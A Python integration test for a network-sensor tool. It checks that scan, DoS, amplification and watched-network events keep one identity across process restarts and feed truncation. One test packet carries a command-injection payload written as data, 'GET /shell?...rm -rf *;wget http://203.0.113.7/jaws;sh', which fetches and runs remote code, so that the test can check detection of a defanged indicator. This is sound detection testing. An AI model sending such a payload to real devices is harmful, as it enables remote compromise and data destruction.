"""Events of `live`, from outside: scans, attacks and alerts that span restarts (SIGTERM, kill -9) are one event each, with all their packets; a
watched network is told once; a feed that was cut anywhere behind its last whole window lacks no event when it goes on."""
import json
import os
import shutil
import signal
import sys
import tempfile
import time

import live_net
import pcap
from judge import SKIP, Verdict, run
from live_net import SENSOR, Sender
from test_live_command import Live, counted, held

OPTIONS = ("--window", "1s", "--events", "scan,dos,amplification,watched", "--events.dos.idle", "20s", "--events.dos.min-span", "1s",
           "--events.dos.min-packets", "20", "--events.dos.min-rate", "20", "--events.scan.idle", "20s", "--events.every", "1s", "--no-sources")
NETWORKS = """- name: Example City
  prefixes: [203.0.113.0/24]
"""
VICTIM, BOT, QUIET_BOT, REFLECTED = "203.0.113.80", "198.18.0.7", "198.18.0.8", "198.18.0.9"
DNS = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\xff\0\1"


def round_of(i):
    """An attack's answer, a scan, a scan that comes to its tenth address late, a request whose source is the victim."""
    dark = f"198.51.100.{i % 250}"
    found = [pcap.ip4(VICTIM, dark, 6, pcap.tcp(443, 5000 + i % 50000, pcap.SYN | pcap.ACK)),
             pcap.ip4(BOT, dark, 6, pcap.tcp(40000, 23)), pcap.ip4(REFLECTED, dark, 17, pcap.udp(4000, 53, DNS))]
    if i % 10 == 0:
        found.append(pcap.ip4(QUIET_BOT, f"198.51.100.{i // 10 % 7}", 6, pcap.tcp(40000, 2323)))
    return [pcap.ether(packet) for packet in found]


def told(folder):
    return [json.loads(line) for line in run("events", "--json", "--updates", folder)[1].splitlines()]


def key_of(e):
    return e["type"], e["address"]


class Traffic:
    """Sent bit by bit, each only while somebody counts it."""

    def __init__(self, verdict):
        self.verdict, self.sender, self.sent, self.rounds = verdict, Sender(), 0, 0

    def go_on(self, live, folder, seconds):
        before, first, end = counted(folder), self.sent, time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(5):
                self.sent += self.sender.send(round_of(self.rounds))
                self.rounds += 1
            time.sleep(0.05)
        self.verdict.check(live.until(lambda: counted(folder) - before >= self.sent - first, 20),
                           f"{counted(folder) - before} packets of {self.sent - first}: {live.said()}")


def live_of(verdict, out, networks, *more):
    live = Live("--from", f"pcap:{SENSOR}", "-o", out, *OPTIONS, "--events.watched", networks, *more)
    windows = held(out).get("windows", 0)
    verdict.check(live.until(lambda: held(out).get("windows", 0) > windows), f"it runs: {live.said()}")
    return live


def judge_restarts(verdict, folder, networks, name, *more):
    """Ends as asked for and kills by turns. Who counts is at work whenever packets come: nothing is lost, so all is as without a restart."""
    out = os.path.join(folder, f"feed-{name}")
    traffic = Traffic(verdict)
    ways = (signal.SIGTERM, signal.SIGKILL, signal.SIGKILL, signal.SIGTERM)
    for turn, how in enumerate(ways):
        live = live_of(verdict, out, networks, *more)
        traffic.go_on(live, out, 2.5)
        if turn == len(ways) - 1:
            verdict.check(live.until(lambda: sum(e["phase"] == "end" for e in told(out)) >= 4, 90), f"{name}: it never ends")
        live.stop(how)
        verdict.check("events.open" in os.listdir(out), f"{name}: what is open is not kept")
    found = {}
    for e in told(out):
        found.setdefault(key_of(e), []).append(e)
    rounds = traffic.rounds
    expected = {("dos", VICTIM): rounds, ("scan", BOT): rounds, ("amplification", REFLECTED): rounds, ("watched", VICTIM): rounds,
                ("scan", REFLECTED): rounds}
    verdict.equal(set(found), set(expected), f"{name}: events")
    for key, packets in expected.items():
        events = found.get(key, [])
        verdict.equal(len({e["id"] for e in events}), 1, f"{name}: {key}: one, told as")
        verdict.equal([e["update"] for e in events], list(range(len(events))), f"{name}: {key}: updates")
        if key[0] == "watched":
            verdict.equal([(e["phase"], e["watched"]["organisation"], e["watched"]["reason"]) for e in events],
                          [("begin", "Example City", "under_attack")], f"{name}: alerts")
            continue
        verdict.equal([e["phase"] for e in events], ["begin"] + ["goes_on"] * (len(events) - 2) + ["end"], f"{name}: {key}: phases")
        verdict.equal(events[-1]["packets"] if events else 0, packets, f"{name}: {key}: packets")
        verdict.check(events and not events[-1]["destinations"]["exact"], f"{name}: {key}: destinations are exact over a restart")
    status, said, err = run("verify", out)
    verdict.equal(status, 0, f"{name}: the feed holds: {said}{err}")
    for file in (n for n in os.listdir(out) if n.startswith("events.open")):
        path = os.path.join(out, file)
        with open(path, "rb") as f:
            kept = f.read()
        verdict.check(not any(bytes((198, 51, 100, i)) in kept or bytes((i, 100, 51, 198)) in kept for i in range(250)),
                      f"{name}: addresses of the telescope in {file}")
        verdict.equal(os.stat(path).st_mode & 0o077, 0, f"{name}: others may read {file}")


def records(raw):
    """[(begin, end, field of its body)] of the whole records of a segment."""
    found, at = [], 0
    while at < len(raw):
        size, shift, begin = 0, 0, at
        while True:
            size |= (raw[at] & 0x7f) << shift
            at, shift = at + 1, shift + 7
            if raw[at - 1] < 0x80:
                break
        if at + size > len(raw):
            break
        body = at + 1  # behind the seq: a tag, and a varint
        while raw[body] >= 0x80:
            body += 1
        found.append((begin, at + size, raw[body + 1] >> 3))
        at += size
    return found


WINDOW, EVENT = 3, 7


def judge_cuts(verdict, folder, networks):
    """A killed feed, cut behind each of its last records: whatever of them got there, what goes on has every event once, in its order."""
    out = os.path.join(folder, "feed-cuts")
    live = live_of(verdict, out, networks)
    traffic = Traffic(verdict)
    traffic.go_on(live, out, 3)
    live.stop(signal.SIGKILL)
    segment = max(n for n in os.listdir(out) if n.endswith(".yami"))
    with open(os.path.join(out, segment), "rb") as f:
        raw = f.read()
    whole = records(raw)
    last = max(i for i, record in enumerate(whole) if record[2] == WINDOW)
    verdict.check(all(kind == EVENT for _, _, kind in whole[last + 1:]) and len(whole) - last > 2, f"events behind the last window: {whole[last:]}")
    complete = [(e["id"], e["update"]) for e in told(out)]
    behind = len(whole) - 1 - last
    # From all of them back to the window before: whose events are there, since it is whole.
    for keep in range(last - 1, len(whole)):
        if whole[keep][2] not in (WINDOW, EVENT):
            continue
        copy = os.path.join(folder, "cut")
        shutil.copytree(out, copy)
        with open(os.path.join(copy, segment), "r+b") as f:
            f.truncate(whole[keep][1] + (2 if keep % 2 else 0) if whole[keep][1] + 2 <= len(raw) else whole[keep][1])
        live = live_of(verdict, copy, networks)
        status, _ = live.stop()
        verdict.equal(status, 0, f"cut behind record {keep}: {live.said()}")
        events = [(e["id"], e["update"]) for e in told(copy)]
        expected = complete if keep >= last else complete[:-behind]
        verdict.equal(events[:len(expected)], expected, f"cut behind record {keep - last} of the last window: events")
        verdict.equal(len(set(events)), len(events), f"cut behind record {keep - last}: told twice")
        status, said, err = run("verify", copy)
        verdict.equal(status, 0, f"cut behind record {keep - last}: the feed holds: {said}{err}")
        shutil.rmtree(copy)


def judge_indicators(verdict, folder):
    """An indicator that spans restarts is one event, with its sources counted once."""
    out, sender, sent = os.path.join(folder, "indicators"), Sender(), 0
    body = b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n"
    for how in (signal.SIGTERM, signal.SIGKILL, signal.SIGTERM):
        live = Live("--from", f"pcap:{SENSOR}", "-o", out, "--window", "1s", "--no-sources", "--events", "indicator", "--events.every", "2s")
        verdict.check(live.until(lambda: held(out) or os.path.isdir(out)), f"it runs: {live.said()}")
        time.sleep(0.5)
        before = counted(out)
        for i in range(20):
            sender.send([pcap.ether(pcap.ip4(f"203.0.114.{i}", f"198.51.100.{i + 1}", 6,
                                             pcap.tcp(4000, 60001, pcap.ACK | pcap.PSH, body=body)))])
        sent += 20
        verdict.check(live.until(lambda: counted(out) - before >= 20, 20), f"{counted(out)} packets: {live.said()}")
        time.sleep(2)
        live.stop(how)
    events = [e for e in told(out) if e["indicator"]["kind"] == "url"]
    if len({e["first"][:10] for e in events}) > 1:
        print("not run: one indicator over restarts, since it is midnight")
        return
    verdict.equal(len({e["id"] for e in events}), 1, "one indicator, told as")
    verdict.equal([e["update"] for e in events], list(range(len(events))), "updates")
    verdict.equal((events[0]["phase"], events[0]["indicator"]["value"]), ("begin", "hxxp://203[.]0[.]113[.]7/jaws"), "it begins")
    verdict.check(len(events) > 1 and events[-1]["packets"] > 20, f"it does not go on: {events}")
    verdict.check(all(e["indicator"]["sources"] == 20 for e in events[1:]), "sources, counted once")


def main():
    if not live_net.enter():
        return SKIP
    live_net.quiet()
    live_net.make_pair()
    verdict = Verdict()
    with tempfile.TemporaryDirectory() as folder:
        networks = os.path.join(folder, "networks.yaml")
        with open(networks, "w", encoding="utf-8") as f:
            f.write(NETWORKS)
        judge_restarts(verdict, folder, networks, "workers", "--workers", "2")
        judge_restarts(verdict, folder, networks, "alone", "--workers", "0")
        judge_cuts(verdict, folder, networks)
        judge_indicators(verdict, folder)
    return verdict.finish()


if __name__ == "__main__":
    sys.exit(main())
